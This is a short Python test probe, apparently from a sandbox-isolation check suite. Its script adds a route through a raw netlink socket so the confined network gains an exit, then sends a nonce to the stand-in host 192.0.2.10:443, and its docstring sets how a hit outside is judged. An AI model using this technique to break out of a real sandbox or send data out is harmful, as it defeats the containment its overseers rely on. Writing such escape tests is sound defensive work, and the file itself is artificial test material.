"""Gives its own network an address and a way out by route messages, then sends data outside.

family: network
arguments: 192.0.2.10 443 {nonce}
judge: hit outside {nonce}
trace: 192.0.2.10
"""

import contextlib
import socket
import struct
import sys

ADD, FLAGS = 24, 0x0405
route = struct.pack("=BBBBBBBBI", socket.AF_INET, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HHI", 8, 4, 1)
with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
    sock.send(struct.pack("=IHHII", 16 + len(route), ADD, FLAGS, 1, 0) + route)
    print(struct.unpack_from("=i", sock.recv(4096), 16))
with contextlib.suppress(OSError), socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3) as client:
    client.sendall(b"GET /" + sys.argv[3].encode() + b" HTTP/1.0\r\n\r\n")
    print(client.recv(400))
